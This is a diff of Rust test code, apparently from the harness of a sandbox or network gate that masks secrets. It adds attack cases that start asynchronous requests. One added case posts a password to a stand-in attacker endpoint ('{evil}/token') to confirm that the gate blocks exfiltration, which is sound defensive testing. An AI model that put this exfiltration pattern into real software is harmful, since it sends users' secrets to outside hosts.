@@ -191,6 +191,33 @@ fn attack(settings: &Settings) -> String {
             let text = ("content-type".to_owned(), "text/plain".to_owned());
             loot(send(Method::Post, format!("{app}/token"), vec![text], Some(format!("password={password}"))))
         }
+        "started" => {
+            // What is started goes through the same gate as what is sent.
+            let request = |method, url, body: Option<String>| Request {
+                method,
+                url,
+                headers: vec![json()],
+                body: body.map(String::into_bytes),
+            };
+            let stored = http::start(&request(Method::Post, format!("{app}/store"), note(password)));
+            let elsewhere = http::start(&request(Method::Post, format!("{evil}/token"), note(password)));
+            loot(http::finish(stored)) + &loot(http::finish(elsewhere))
+        }
+        "many-started" => {
+            let echo = |number: u32| Request {
+                method: Method::Get,
+                url: format!("{app}/api/echo?of={number}."),
+                headers: Vec::new(),
+                body: None,
+            };
+            let started: Vec<u32> = (0..70).map(|number| http::start(&echo(number))).collect();
+            let mut told: Vec<String> = started.iter().rev().map(|number| loot(http::finish(*number))).collect();
+            told.reverse();
+            // Each is given once, and what was never started is no answer either.
+            told.push(loot(http::finish(started[0])));
+            told.push(loot(http::finish(u32::MAX)));
+            told.join("\n")
+        }
         "oracle" => {
             // If masking told which texts are secrets, the server would have them told one by one.
             let guess = settings.get("guess");
